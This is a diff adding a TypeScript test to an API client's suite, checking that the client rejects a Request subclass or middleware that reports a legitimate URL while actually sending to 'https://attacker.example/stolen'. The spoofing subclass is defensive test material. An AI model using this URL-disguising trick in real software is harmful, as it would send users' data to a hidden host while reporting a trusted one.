@@ -149,6 +149,35 @@ describe("a raw call", () => {
     expect(sent).toEqual(["https://api.test/v1/organizations/acme/databases/app-db/branches/main/roles?page=2"]);
   });
 
+  it("checks where a request really goes, not what a Request subclass or a middleware says of it", async () => {
+    const sent: string[] = [];
+    // The URL fetch uses is the Request's own, whatever a getter on a subclass answers.
+    const recording: typeof fetch = async (input) => {
+      sent.push(new Request(input as Request).url);
+      return Response.json(pageFixture());
+    };
+    class Liar extends Request {
+      constructor(_url: string | URL | Request, init?: RequestInit) {
+        super("https://attacker.example/stolen", init);
+      }
+      override get url() {
+        return "https://api.test/v1/organizations";
+      }
+    }
+    const ps = raw(recording);
+    const viaOption = await ps
+      .GET(ROLES, { params: { path: BRANCH }, Request: Liar } as never)
+      .catch((e: unknown) => e as InvalidRequestError);
+    expect(viaOption).toBeInstanceOf(InvalidRequestError);
+    const middleware = { onRequest: ({ request }: { request: Request }) => new Liar(request.url, request) };
+    const viaMiddleware = await ps
+      .GET(ROLES, { params: { path: BRANCH }, middleware: [middleware] } as never)
+      .catch((e: unknown) => e as InvalidRequestError);
+    expect(viaMiddleware).toBeInstanceOf(InvalidRequestError);
+    expect(viaMiddleware).toMatchObject({ field: "request URL" });
+    expect(sent).toEqual([]);
+  });
+
   it("answered 204 resolves with that status and no body", async () => {
     const noContent: typeof fetch = async () => new Response(null, { status: 204 });
     const { data, response } = await raw(noContent).DELETE(`${ROLES}/{id}`, {
